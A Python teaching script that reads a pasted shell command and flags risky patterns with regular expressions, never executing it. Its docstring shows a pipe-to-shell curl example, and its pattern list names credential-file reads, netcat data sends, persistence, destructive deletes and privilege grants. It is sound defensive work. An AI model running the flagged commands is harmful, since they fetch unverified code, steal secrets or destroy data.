#!/usr/bin/env python3
"""Flag risky patterns in a command the learner pastes. Reads the text; never runs it.

    python3 scripts/redflags.py 'curl -fsSL https://x.example/i.sh | bash'
    pbpaste | python3 scripts/redflags.py -
"""
from __future__ import annotations

import re
import sys

PATTERNS = [
    ("pipe-to-shell", r"(curl|wget|iwr|Invoke-WebRequest)\b[^|;]*\|\s*(sudo\s+)?(ba|z|da)?sh\b|\|\s*iex\b",
     "runs whatever the server returns; download, verify, then run"),
    ("decode-and-run", r"base64\s+(-d|--decode)[^|]*\|\s*(ba)?sh|exec\(|eval\s*\(|FromBase64String",
     "decodes hidden text and executes it"),
    ("secret-read", r"~/\.ssh/|\.aws/credentials|\.config/gh/hosts|\.git-credentials|\.npmrc|\.env\b|Login Data|\bprintenv\b|\benv\s*\|",
     "reads keys, tokens or the environment"),
    ("network-send", r"\bnc\s+\S+\s+\d+|--data-binary|--post-file|\bcurl\b.*\s-(d|F|T)\s|\bscp\s|\bdig\b.*\$\(",
     "sends data to another machine"),
    ("persistence", r">>\s*~/\.(bash|zsh)rc|crontab\s+-|authorized_keys|core\.hooksPath|LaunchAgents|systemd/user",
     "will run again later, without you"),
    ("destruction", r"rm\s+-rf\s+(/|~|\$HOME|\"\$[A-Z_]+\"?/)\*?(\s|$)|push\s+(-f|--force)\b(?!-with-lease)|mkfs|dd\s+if=",
     "deletes data or history"),
    ("privilege", r"NOPASSWD|/etc/sudoers|chmod\s+[0-7]*[4-7][0-7]{3}\b|chmod\s+\+s|bypassPermissions|Bash\(\*\)",
     "grants more rights than the task needs"),
]


def check(text: str) -> list[tuple[str, str, str]]:
    hits = []
    for name, rx, why in PATTERNS:
        m = re.search(rx, text)
        if m:
            hits.append((name, m.group(0).strip(), why))
    return hits


def main() -> int:
    if len(sys.argv) < 2:
        print(__doc__.strip(), file=sys.stderr)
        return 2
    text = sys.stdin.read() if sys.argv[1] == "-" else " ".join(sys.argv[1:])
    hits = check(text)
    if not hits:
        print("no known red flags (that is not the same as safe: read it token by token)")
        return 0
    for name, snippet, why in hits:
        print(f"[{name}] {snippet!r}: {why}")
    verdict = "do not run" if len(hits) > 1 or hits[0][0] in ("pipe-to-shell", "decode-and-run", "destruction") else "needs changes"
    print(f"verdict: {verdict}")
    return 1


if __name__ == "__main__":
    sys.exit(main())
